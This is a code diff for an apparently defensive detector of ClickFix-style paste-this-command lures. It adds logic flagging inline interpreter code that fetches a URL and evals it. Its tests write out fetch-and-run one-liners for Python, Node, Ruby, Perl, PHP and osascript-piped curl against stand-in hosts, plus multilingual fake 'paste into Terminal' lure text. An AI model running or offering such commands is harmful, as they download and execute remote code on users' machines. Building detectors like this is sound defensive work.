@@ -21,8 +21,8 @@ use super::weights::{
     CLICKFIX_RUN_INSTRUCTIONS,
 };
 use super::{
-    any_match, count, find, first_chars, join, push_spaces, trim, trim_by, trim_end, trim_end_by,
-    trim_start, trim_start_by,
+    after_last, any_match, count, find, first_chars, join, push_spaces, trim, trim_by, trim_end,
+    trim_end_by, trim_start, trim_start_by,
 };
 pub use crate::snapshot::MAX_CLIPBOARD_BYTES;
 use crate::snapshot::{truncate_utf8, Snapshot};
@@ -747,7 +747,8 @@ fn piped_to_shell(flat: &str) -> bool {
 /// wget names its file by end in it. (A `.` elsewhere is an argument: `jq . data.json`.)
 /// Review 30 MH-M1: inline code (`-c`, `-e`, `-r`) naming the saved file runs it
 /// (`python3 -c "exec(open('/tmp/v').read())"`, `perl -e 'do "/tmp/v"'`), as code reading a pipe
-/// does; and after an archive is unpacked (`unzip`, `tar x…`) the file a runner is given may be
+/// does, and so does inline code fetching an address and running it (`fetch_run`); and after an
+/// archive is unpacked (`unzip`, `tar x…`) the file a runner is given may be
 /// the archive's.
 #[inline(never)]
 fn runs_saved(flat: &str) -> bool {
@@ -778,12 +779,23 @@ fn runs_saved(flat: &str) -> bool {
             .take_while(|a| a.1.starts_with('-'))
             .any(|a| matches!(a.1, "-c" | "-e" | "-r"))
         {
-            return args.iter().any(|a| saved(a.1));
+            return fetch_run(flat) || args.iter().any(|a| saved(a.1));
         }
         args.iter()
             .find(|a| !a.1.starts_with('-'))
             .is_some_and(|a| unpacked || saved(a.1))
     })
+}
+
+/// Inline code that fetches an address and runs what it read (`python3 -c
+/// "exec(urlopen(…).read())"`, `node -e` with `fetch` and `eval`, `ruby -e 'eval(URI.open(…)
+/// .read)'`, `perl -MLWP::Simple -e 'eval get …'`, `php -r 'eval(file_get_contents(…));'`):
+/// `curl … | python3` by another road (review 39 R39-M4). Code printing what it fetched is docs'.
+fn fetch_run(flat: &str) -> bool {
+    has_url(flat)
+        && ["exec(", "eval", "new function"]
+            .iter()
+            .any(|w| has(flat, w))
 }
 
 /// A download saved to a Windows path and that same file run later on the line (review 32
@@ -1105,7 +1117,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
     let substituted = ["$(curl", "$(wget", "<(curl", "<(wget"]
         .iter()
         .any(|s| has(flat, s));
-    if fetch && (to_shell || substituted) {
+    if (fetch || fetch_run(flat)) && (to_shell || substituted) {
         out.push(Shape::PipeToShell);
     }
     // Strongest first, no duplicates (a sort would add a monomorphised sort to the Wasm).
@@ -1266,10 +1278,9 @@ fn published(flat: &str, windows: bool) -> bool {
         let rest = &t[i + 3..];
         let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
         let path = path.split(['?', '#']).next().unwrap_or("");
-        let tld_is_name = host
-            .rsplit('.')
-            .next()
-            .is_some_and(|tld| tld.bytes().any(|b| b.is_ascii_alphabetic()));
+        let tld_is_name = after_last(host, |c| c == '.')
+            .bytes()
+            .any(|b| b.is_ascii_alphabetic());
         t[..i].ends_with("https")
             && tld_is_name
             && !borrowed(rest)
@@ -2365,6 +2376,59 @@ mod tests {
         assert!(unc_reaches_out(
             "\\\\99999999999999999999999999\\pub\\a.hta"
         ));
+    }
+
+    #[test]
+    fn an_interpreter_fed_from_an_address_is_a_download_run() {
+        // Review 39 R39-M4: inline code that fetches and runs what it read.
+        for cmd in [
+            "python3 -c \"import urllib.request as r;exec(r.urlopen('https://relay.test/k').read())\"",
+            "python -c \"import requests;exec(requests.get('http://relay.test/a').text)\"",
+            "ruby -ropen-uri -e 'eval(URI.open(\"https://relay.test/r\").read)'",
+            "node -e \"fetch('https://relay.test/n').then(r=>r.text()).then(eval)\"",
+            "node -e \"fetch('https://relay.test/n').then(r=>r.text()).then(t=>new Function(t)())\"",
+            "perl -MLWP::Simple -e 'eval get \"http://relay.test/p\"'",
+            "php -r 'eval(file_get_contents(\"https://relay.test/x\"));'",
+        ] {
+            assert_eq!(shapes_of(cmd), vec![Shape::PipeToShell], "{cmd}");
+        }
+        // Docs' one-liners: nothing fetched, or what is fetched printed.
+        for cmd in [
+            "python -c \"import sys; print(sys.version)\"",
+            "node -e \"console.log(1)\"",
+            "ruby -e \"puts RUBY_VERSION\"",
+            "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://api.test/v1').read())\"",
+            "perl -MLWP::Simple -e 'getprint \"https://www.test/\"'",
+            "php -r 'echo file_get_contents(\"https://api.test/ping\");'",
+            "python3 -c \"exec(open('setup_local.py').read())\"",
+            "pip install example-lib",
+        ] {
+            assert!(shapes_of(cmd).is_empty(), "{cmd}");
+        }
+        let mac =
+            "Verify you are human. Open Terminal, paste the code with Cmd + V and press Return.";
+        assert!(judged(
+            "python3 -c \"import urllib.request as u;exec(u.urlopen('http://relay.test/p').read())\"",
+            mac
+        ));
+    }
+
+    #[test]
+    fn terminal_through_finders_utilities_in_other_languages() {
+        // Fortieth session: en "Utilities → Terminal" in de fr es it nl pt.
+        let cmd = "osascript -e 'do shell script \"curl -s https://m.test/p | sh\"'";
+        for steps in [
+            "Finder → Programme → Dienstprogramme → Terminal. Befehl einfügen (Cmd + V), dann Return.",
+            "Finder > Applications > Utilitaires > Terminal, collez la commande (Cmd + V) puis Entrée.",
+            "Finder → Aplicaciones → Utilidades → Terminal, pegue el comando (Cmd + V) y pulse Intro.",
+            "Finder → Applicazioni → Utility → Terminale, incolla il comando (Cmd + V) e premi Invio.",
+            "Finder → Programma's → Hulpprogramma's → Terminal, plak de opdracht (Cmd + V).",
+            "Finder → Aplicativos → Utilitários → Terminal, cole o comando (Cmd + V) e pressione Return.",
+        ] {
+            assert!(judged(cmd, steps), "{steps}");
+        }
+        // The paste step alone names no Terminal.
+        assert!(!judged(cmd, "Befehl einfügen (Cmd + V), dann Return."));
     }
 
     #[test]
